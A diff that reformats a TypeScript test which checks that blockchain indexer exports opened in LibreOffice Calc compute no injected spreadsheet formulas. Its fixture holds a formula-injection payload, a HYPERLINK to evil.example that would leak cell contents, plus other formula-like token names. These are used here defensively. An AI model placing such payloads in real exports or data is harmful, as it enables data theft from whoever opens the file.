@@ -26,7 +26,11 @@ const SOFFICE = process.env.SOFFICE_PATH ?? '/usr/bin/soffice';
 const available = existsSync(SOFFICE);
 
 /** Hashes as the indexer may send them (standard or URL-safe Base64; the schema admits no other first character). */
-const HASHES = ['+Ycxjy3mT0b5q9sGf0e2uQh8Yx1QKkq1mYb0Q3zq2rE=', '-Ycxjy3mT0b5q9sGf0e2uQh8Yx1QKkq1mYb0Q3zq2rE=', '+/+/jy3mT0b5q9sGf0e2uQh8Yx1QKkq1mYb0Q3zq2rE='];
+const HASHES = [
+  '+Ycxjy3mT0b5q9sGf0e2uQh8Yx1QKkq1mYb0Q3zq2rE=',
+  '-Ycxjy3mT0b5q9sGf0e2uQh8Yx1QKkq1mYb0Q3zq2rE=',
+  '+/+/jy3mT0b5q9sGf0e2uQh8Yx1QKkq1mYb0Q3zq2rE=',
+];
 const MASTERCHAIN = '-1:E56754F83426F69B09267BD876AC97C44821345B7E266BD956A7BFBFB98DF35C';
 /** Token names an indexer could send, aimed at a spreadsheet; none may be computed. */
 const FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', '-2+3', '=1+2', '@SUM(1,2)'];
@@ -47,7 +51,12 @@ function records(): ExportRecord[] {
       data_hash: HASHES[(i + 2) % 3],
     })),
     address_book: {},
-    metadata: Object.fromEntries(raws.map((raw, i) => [raw, { is_indexed: true, token_info: [{ type: 'jetton_masters', name: FORMULAS[i], symbol: 'X' }] }])),
+    metadata: Object.fromEntries(
+      raws.map((raw, i) => [
+        raw,
+        { is_indexed: true, token_info: [{ type: 'jetton_masters', name: FORMULAS[i], symbol: 'X' }] },
+      ]),
+    ),
     not_found: [],
   });
   return exportRecords({ accounts: raws.map((raw) => ({ raw, input: raw })), result, network: 'mainnet' });
@@ -99,7 +108,11 @@ describe.skipIf(!available)(`a real spreadsheet (LibreOffice Calc at ${SOFFICE})
   ] as const) {
     it(`shows every hash and raw address of the ${kind} exactly, and computes no indexer formula`, async () => {
       const data = records();
-      const rows = await asCalcShowsIt(kind.startsWith('CSV') ? 'export.csv' : 'clipboard.tsv', write(data), delimiter);
+      const rows = await asCalcShowsIt(
+        kind.startsWith('CSV') ? 'export.csv' : 'clipboard.tsv',
+        write(data),
+        delimiter,
+      );
       expect(rows).toHaveLength(data.length);
       rows.forEach((cells, i) => {
         for (const name of ['raw', 'last_transaction_hash', 'code_hash', 'data_hash'] as const) {
@@ -114,5 +127,6 @@ describe.skipIf(!available)(`a real spreadsheet (LibreOffice Calc at ${SOFFICE})
 });
 
 if (!available) {
-  it.skip(`a real spreadsheet: LibreOffice is not installed (${SOFFICE}); apt-get install libreoffice-calc-nogui or set SOFFICE_PATH`, () => undefined);
+  it.skip(`a real spreadsheet: LibreOffice is not installed (${SOFFICE}); apt-get install libreoffice-calc-nogui or set SOFFICE_PATH`, () =>
+    undefined);
 }
